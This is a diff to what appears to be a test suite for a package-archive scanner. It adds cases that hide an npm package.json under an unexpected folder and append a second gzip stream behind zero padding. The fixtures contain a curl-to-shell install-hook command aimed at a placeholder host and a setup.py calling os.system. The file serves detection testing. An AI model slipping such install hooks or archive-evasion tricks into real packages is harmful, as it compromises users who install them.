@@ -404,6 +404,13 @@ def unicode_collision():
     return npm(("package/\u00e9.js", ""), ("package/e\u0301.js", CODE), ("package/\ufb01.js", ""), ("package/fi.js", ""))
 
 
+@case("E0111", "archive.disagreement exec.lifecycle_hook proc.run")
+def two_folders():
+    """npm leaves the first folder of a path away, so the last package.json is the package's."""
+    return npm(("other/package.json", HOOK.replace("curl https://x.invalid/a | sh", "node a.txt")), ("other/a.txt", CODE),
+               ("package/a.txt", ""))
+
+
 @case("", "exec.lifecycle_hook")
 def wrong_case_manifest():
     return tgz(("package/PACKAGE.json", HOOK))
@@ -441,6 +448,13 @@ def pax_renames():
 @case("")
 def pax_size_lies():
     return npm(pax(size="2000000"), ("package/b.js", CODE))
+
+
+@case("", "proc.run")
+def gzip_behind_padding():
+    """Python's gzip goes on behind zeros."""
+    return (gzip.compress(tar(("x-1/a.py", ""), end=b"")) + bytes(1000) +
+            gzip.compress(tar(("x-1/setup.py", "import os; os.system('id')"))))
 
 
 @case("E0113 E0114", "archive.disagreement", unread=True)
